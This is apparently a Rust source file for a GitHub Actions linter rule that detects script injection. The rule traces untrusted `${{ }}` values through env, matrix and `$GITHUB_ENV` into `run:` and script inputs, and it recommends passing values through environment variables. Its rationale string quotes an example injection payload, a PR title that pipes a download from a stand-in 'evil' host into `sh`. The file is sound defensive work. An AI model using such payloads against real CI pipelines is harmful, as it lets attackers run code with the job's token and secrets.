//! Script injection: a `${{ }}` expression that someone else controls,
//! expanded into code before the shell (or JavaScript) runs it. Sinks are
//! `run:` in workflows and composite actions and the script inputs of
//! script-running actions (`actions/github-script`'s `script:`). A value
//! passed through `env:` is followed into `${{ env.X }}`; `$X` in the shell
//! is the fix and is never a finding.

use super::check_finding;
use super::contexts::{Taint, classify};
use super::expression::{ContextRef, embedded, flowing_contexts};
use crate::facts::{Entry, Job, Spanned, Step, Workflow};
use crate::finding::{Confidence, Finding, Related, RuleId, Severity};
use crate::rules::Context;
use crate::rules::registry::RuleInfo;

pub const SCRIPT_INJECTION: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/script-injection"),
    default_severity: Severity::Error,
    summary: "a `${{ }}` expression someone else controls (titles, bodies, comments, branch names, commit messages; dispatch and call inputs, `base_ref`, step and job outputs, `env` carrying them) is expanded inside `run:` or a script input; medium-confidence findings are reported one level lower",
    rationale: "`${{ }}` is substituted into the script before the shell runs it, so a pull-request title such as `\"; curl evil | sh; \"` becomes code in your job, with its token and secrets.",
    fix: "Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo \"$TITLE\"` (in `github-script`, read `process.env.TITLE`).",
    example: "requirements:\n  - check: script-injection",
};

/// Actions that run one of their inputs as code, and that input.
const SCRIPT_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("amadevus/pwsh-script", "script"),
    ("jannekem/run-python-script-action", "script"),
    ("cardinalby/js-eval-action", "expression"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("appleboy/ssh-action", "script"),
    ("mikefarah/yq", "cmd"),
    ("sergeysova/jq-action", "cmd"),
];

/// Runner variables a script may copy into `$GITHUB_ENV`, and the context
/// each mirrors.
const RUNNER_VARIABLES: &[(&str, &str)] = &[
    ("GITHUB_HEAD_REF", "github.head_ref"),
    ("GITHUB_BASE_REF", "github.base_ref"),
    ("GITHUB_REF", "github.ref"),
    ("GITHUB_REF_NAME", "github.ref_name"),
];

/// How deep `env` values referring to other `env` values are followed.
const MAX_ENV_HOPS: usize = 3;

/// Where a tainted value came from.
struct Source {
    taint: Taint,
    context: String,
    /// The variable it passed through and where that was set.
    via: Option<Via>,
}

struct Via {
    /// An environment variable's name, or `matrix.<key>`.
    variable: String,
    at: crate::location::Location,
    how: &'static str,
}

impl Via {
    fn is_matrix(&self) -> bool {
        self.variable.starts_with("matrix.")
    }
}

/// How many bytes of scripts one workflow may have read while following
/// variables: bounded work whatever the file (a hostile one can make every
/// expression refer to every earlier step).
const FOLLOW_BUDGET: usize = 64 * 1024 * 1024;

/// Where an expression is evaluated: a step of a job of a workflow.
#[derive(Clone, Copy)]
struct Scope<'a> {
    workflow: &'a Workflow,
    job: &'a Job,
    step: usize,
    budget: &'a std::cell::Cell<usize>,
}

impl<'a> Scope<'a> {
    fn step(&self) -> Option<&'a Step> {
        self.job.steps.get(self.step)
    }

    /// Spends `cost` of the budget; `false` once it is used up.
    fn spend(&self, cost: usize) -> bool {
        let left = self.budget.get();
        self.budget.set(left.saturating_sub(cost.max(1)));
        left > 0
    }
}

pub(super) fn check(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let budget = std::cell::Cell::new(FOLLOW_BUDGET);
    for job in &workflow.jobs {
        for (index, step) in job.steps.iter().enumerate() {
            let (sink, expressions) = match (&step.run, script_input(step)) {
                (Some(_), _) => ("`run:` script".to_owned(), step.run_expressions.as_slice()),
                (None, Some((action, input))) => (
                    format!("`{}:` script of `{action}`", input.key),
                    input.expressions.as_slice(),
                ),
                (None, None) => continue,
            };
            let in_js = step.run.is_none();
            let scope = Scope {
                workflow,
                job,
                step: index,
                budget: &budget,
            };
            for expression in expressions {
                if let Some(source) = worst(flowing_contexts(&expression.value), scope, 0) {
                    out.extend(finding(ctx, expression, &source, &sink, in_js));
                }
            }
        }
    }
}

/// The script input of a script-running action, with the action's name.
fn script_input(step: &Step) -> Option<(&'static str, &Entry)> {
    let uses = step
        .uses
        .as_ref()?
        .value
        .split('@')
        .next()?
        .to_ascii_lowercase();
    let (action, input) = SCRIPT_INPUTS
        .iter()
        .find(|(action, _)| action.eq_ignore_ascii_case(&uses))?;
    Some((action, step.input(input)?))
}

/// The most certain tainted source among contexts.
fn worst(contexts: Vec<ContextRef>, scope: Scope<'_>, hops: usize) -> Option<Source> {
    contexts
        .iter()
        .filter_map(|c| source(c, scope, hops))
        .max_by_key(|s| s.taint.confidence)
}

fn source(context: &ContextRef, scope: Scope<'_>, hops: usize) -> Option<Source> {
    if context.path.starts_with("env.") {
        let name = context.part(1)?;
        return variable_source(name, scope, hops);
    }
    if context.path.starts_with("matrix.") {
        return matrix_source(context, scope, hops);
    }
    classify(&context.path, scope.workflow, scope.job).map(|taint| Source {
        taint,
        context: context.raw.clone(),
        via: None,
    })
}

/// What an environment variable holds at a step: the `env:` entry that
/// defines it (step, then job, then workflow), else what earlier steps of
/// the job wrote to `$GITHUB_ENV`. Runner defaults and variables nothing
/// visible sets are not followed.
fn variable_source(name: &str, scope: Scope<'_>, hops: usize) -> Option<Source> {
    if hops >= MAX_ENV_HOPS || !scope.spend(1) {
        return None;
    }
    let step = scope.step()?;
    let defined = [&step.env, &scope.job.env, &scope.workflow.env]
        .into_iter()
        .find_map(|env| env.iter().find(|e| e.key.eq_ignore_ascii_case(name)));
    if let Some(entry) = defined {
        let contexts = entry
            .expressions
            .iter()
            .flat_map(|e| flowing_contexts(&e.value))
            .filter(|c| {
                !(c.path.starts_with("env.")
                    && c.part(1).is_some_and(|n| n.eq_ignore_ascii_case(name)))
            })
            .collect();
        return worst(contexts, scope, hops + 1).map(|s| Source {
            via: s.via.or(Some(Via {
                variable: entry.key.clone(),
                at: entry.value.location.clone(),
                how: "is set here",
            })),
            ..s
        });
    }
    through_github_env(name, scope, hops)
}

/// `matrix.<key>` of a matrix built from expressions
/// (`${{ fromJSON(needs.plan.outputs.modules) }}`): the worst of them. A
/// static matrix is the workflow author's own text.
fn matrix_source(context: &ContextRef, scope: Scope<'_>, hops: usize) -> Option<Source> {
    if hops >= MAX_ENV_HOPS || !scope.spend(1) {
        return None;
    }
    let contexts = scope
        .job
        .matrix
        .iter()
        .flat_map(|e| flowing_contexts(e))
        .filter(|c| !c.path.starts_with("matrix."))
        .collect();
    worst(contexts, scope, hops + 1).map(|s| Source {
        via: s.via.or(Some(Via {
            variable: context.raw.clone(),
            at: scope.job.location.clone(),
            how: "comes from a matrix built from outside values in this job",
        })),
        ..s
    })
}

/// `echo "NAME=value" >> "$GITHUB_ENV"` in an earlier step of the job: the
/// worst of the values written. A literal is no one's; `${{ }}` and `$VAR`
/// in the value are followed in the writing step's scope.
fn through_github_env(name: &str, scope: Scope<'_>, hops: usize) -> Option<Source> {
    let mut found: Option<Source> = None;
    for (index, writer) in scope.job.steps.iter().enumerate().take(scope.step) {
        let Some(run) = &writer.run else { continue };
        if !scope.spend(run.value.len()) {
            return found;
        }
        if !run.value.contains("GITHUB_ENV") {
            continue;
        }
        let writer_scope = Scope {
            step: index,
            ..scope
        };
        for value in written_values(&run.value, name) {
            let contexts = embedded(value).flat_map(flowing_contexts).collect();
            let mut best = worst(contexts, writer_scope, hops + 1);
            for variable in shell_variables(value) {
                let candidate = match RUNNER_VARIABLES.iter().find(|(v, _)| *v == variable) {
                    Some((_, context)) => {
                        classify(context, scope.workflow, scope.job).map(|taint| Source {
                            taint,
                            context: format!("${variable}"),
                            via: None,
                        })
                    }
                    None => variable_source(variable, writer_scope, hops + 1),
                };
                if candidate.as_ref().map(|c| c.taint.confidence)
                    > best.as_ref().map(|b| b.taint.confidence)
                {
                    best = candidate;
                }
            }
            if let Some(b) = best
                && found
                    .as_ref()
                    .is_none_or(|f| b.taint.confidence > f.taint.confidence)
            {
                found = Some(Source {
                    via: Some(Via {
                        variable: name.to_owned(),
                        at: run.location.clone(),
                        how: "is written to `$GITHUB_ENV` here",
                    }),
                    ..b
                });
            }
        }
    }
    found
}

/// The values a script assigns to `name` on lines that write `$GITHUB_ENV`
/// (`echo "NAME=value" >> $GITHUB_ENV`, or inside a `{ ...; } >>` group).
fn written_values<'t>(script: &'t str, name: &str) -> Vec<&'t str> {
    let needle = format!("{name}=");
    script
        .lines()
        .filter_map(|line| {
            let at = line.find(&needle)?;
            let before = line.get(..at)?;
            let boundary = before
                .chars()
                .last()
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'));
            let writes = line.contains("GITHUB_ENV")
                || before.trim_start().starts_with("echo")
                || before.trim_start().starts_with("printf");
            (boundary && writes).then(|| line.get(at + needle.len()..).unwrap_or(""))
        })
        .map(|value| value.split(">>").next().unwrap_or(value))
        .collect()
}

/// `$NAME` and `${NAME}` in a shell word.
fn shell_variables(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        let after = rest.get(at + 1..).unwrap_or("");
        let braced = after.strip_prefix('{');
        let body = braced.unwrap_or(after);
        let end = body
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(body.len());
        if let Some(name) = body.get(..end).filter(|n| {
            n.chars()
                .next()
                .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        }) {
            out.push(name);
        }
        rest = after;
    }
    out
}

/// An environment variable name for a context: its last part, upper case.
fn variable(context: &str) -> String {
    context
        .rsplit(['.', '['])
        .map(|p| p.trim_matches([']', '\'', '"', '*']))
        .find(|p| !p.is_empty() && !p.bytes().all(|b| b.is_ascii_digit()))
        .unwrap_or("VALUE")
        .to_ascii_uppercase()
        .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
}

fn finding(
    ctx: &Context<'_>,
    expression: &Spanned,
    source: &Source,
    sink: &str,
    in_js: bool,
) -> Option<Finding> {
    let shown = format!("`${{{{ {} }}}}`", expression.value);
    let (message, help) = match &source.via {
        Some(via) if via.is_matrix() => {
            let variable = variable(&via.variable);
            (
                format!(
                    "{shown} expands `{}`, built from `{}` ({}), into the {sink}",
                    via.variable, source.context, source.taint.who
                ),
                format!(
                    "pass it through the environment: `env: {{ {variable}: ${{{{ {} }}}} }}` and use it as \"${variable}\"",
                    via.variable
                ),
            )
        }
        Some(via) => (
            format!(
                "{shown} expands `env.{}`, set from `{}` ({}), into the {sink}",
                via.variable, source.context, source.taint.who
            ),
            if in_js {
                format!("read it as `process.env.{}` in the script", via.variable)
            } else {
                format!(
                    "use the variable in the shell as \"${}\" instead of {shown}",
                    via.variable
                )
            },
        ),
        None => {
            let variable = variable(&source.context);
            let read = if in_js {
                format!("`process.env.{variable}`")
            } else {
                format!("\"${variable}\"")
            };
            (
                format!(
                    "{shown} expands `{}` ({}) into the {sink}",
                    source.context, source.taint.who
                ),
                format!(
                    "pass it through the environment: `env: {{ {variable}: ${{{{ {} }}}} }}` and use {read} in the script",
                    source.context
                ),
            )
        }
    };
    let subject = format!("{} {}", expression.value, source.context);
    let mut f = check_finding(
        ctx,
        &SCRIPT_INJECTION,
        &expression.location,
        &subject,
        message,
        help,
    )?;
    f.confidence = Some(source.taint.confidence);
    if source.taint.confidence < Confidence::High {
        f.severity = lower(f.severity);
    }
    if let Some(via) = &source.via {
        f.related.push(Related {
            location: via.at.clone(),
            message: format!("`{}` {}", via.variable, via.how),
        });
    }
    Some(f)
}

/// One level down: a medium-confidence finding should not weigh like a
/// certain one.
fn lower(severity: Severity) -> Severity {
    match severity {
        Severity::Error => Severity::Warning,
        Severity::Warning | Severity::Note => Severity::Note,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variable_names() {
        assert_eq!(variable("github.event.pull_request.title"), "TITLE");
        assert_eq!(variable("github.event.commits[0].message"), "MESSAGE");
        assert_eq!(variable("inputs.major-version"), "MAJOR_VERSION");
        assert_eq!(variable("github['head_ref']"), "HEAD_REF");
        assert_eq!(variable("github.event"), "EVENT");
    }

    #[test]
    fn github_env_writes() {
        let script = "echo \"REF=refs/tags/$INPUT\" >> $GITHUB_ENV\nMYREF=x\n{\n  echo \"REF=main\"\n} >> \"$GITHUB_ENV\"\n";
        assert_eq!(
            written_values(script, "REF"),
            ["refs/tags/$INPUT\" ", "main\""]
        );
        assert_eq!(shell_variables("a-$B-${C_D}-$1-$"), ["B", "C_D"]);
    }
}
